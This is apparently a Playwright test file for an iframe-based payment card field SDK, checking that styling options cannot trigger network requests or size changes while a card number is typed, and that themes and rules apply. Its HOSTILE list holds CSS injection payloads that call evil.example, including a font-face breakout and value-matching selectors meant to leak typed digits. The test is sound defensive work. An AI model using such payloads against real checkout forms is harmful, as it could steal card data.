import type { Page } from '@playwright/test';
import { expect, test } from '../../fixtures/test.ts';

const KINDS = ['card-number', 'card-cvc'];

/** Every request of a page, its frames' included, from now on. */
function requestsOf(page: Page): string[] {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  return requests;
}

/** Looks that try to fetch something, or to tell what is typed by what they look like. The SDK is not asked; the frame's port is. */
const HOSTILE = [
  { backgroundColor: 'url(https://evil.example/a)' },
  { color: 'image-set("https://evil.example/b" 1x)' },
  { fontFamily: 'x; } @font-face { font-family: x; src: url(https://evil.example/c); unicode-range: U+34' },
  { padding: '0 12px; background: url(https://evil.example/d)' },
  { caretColor: String.raw`\75\72\6c(https://evil.example/e)` },
  { rules: { input: { 'background-color': 'url(https://evil.example/f)' } } },
  { rules: { input: { width: 'fit-content' } } },
  { rules: { 'input[value^="4"]': { color: 'red' } } },
  { rules: { input: { color: 'attr(value)' } } },
  { rules: { placeholder: { color: 'var(--ff-color, url(https://evil.example/g))' } } },
];

test('no look that a page asks for makes a request, or changes a size by what is typed', async ({
  fieldsPage,
  newWindow,
}) => {
  const page = await newWindow();
  const fields = await fieldsPage({ kinds: KINDS }, {}, page);
  const requests = requestsOf(page);
  for (const appearance of HOSTILE) await fields.update({ appearance });
  const number = fields.frame('card-number').getByLabel('Card number');
  const sizes = () =>
    page.evaluate(() =>
      Array.from(document.querySelectorAll('iframe'), (frame) => JSON.stringify(frame.getBoundingClientRect())),
    );
  const inner = () =>
    number.evaluate(() => [
      innerWidth,
      innerHeight,
      document.documentElement.scrollWidth,
      document.documentElement.scrollHeight,
    ]);
  const [before, innerBefore] = [await sizes(), await inner()];
  for (const digit of '4242424242424241') {
    await number.press(digit);
    expect(await sizes()).toEqual(before);
    expect(await inner()).toEqual(innerBefore);
  }
  await expect(number).toHaveAttribute('aria-invalid', 'true');
  expect(requests).toEqual([]);
});

test('themes, variables and rules reach a field while it stands', async ({ fieldsPage, newWindow }) => {
  const page = await newWindow();
  await page.emulateMedia({ colorScheme: 'light' });
  const fields = await fieldsPage({ kinds: KINDS, options: { appearance: { theme: 'system' } } }, {}, page);
  const number = fields.frame('card-number').getByLabel('Card number');
  const body = fields.frame('card-number').locator('body');
  await expect(body).toHaveCSS('background-color', 'rgb(255, 255, 255)');
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect(body).toHaveCSS('background-color', 'rgb(27, 29, 33)');
  await fields.update({ appearance: { theme: 'light', color: 'rgb(1, 2, 3)', labels: 'floating' } });
  await expect(number).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(fields.frame('card-number').getByText('Card number')).toBeVisible();
  await fields.update({
    appearance: { rules: { 'input:focus': { 'letter-spacing': '3px' }, icon: { opacity: '0.5' } } },
  });
  await number.focus();
  await expect(number).toHaveCSS('letter-spacing', '3px');
  await expect(fields.frame('card-number').locator('svg')).toHaveCSS('opacity', '0.5');
  await fields.update({ appearance: { rules: {} } });
  await expect(number).not.toHaveCSS('letter-spacing', '3px');
});
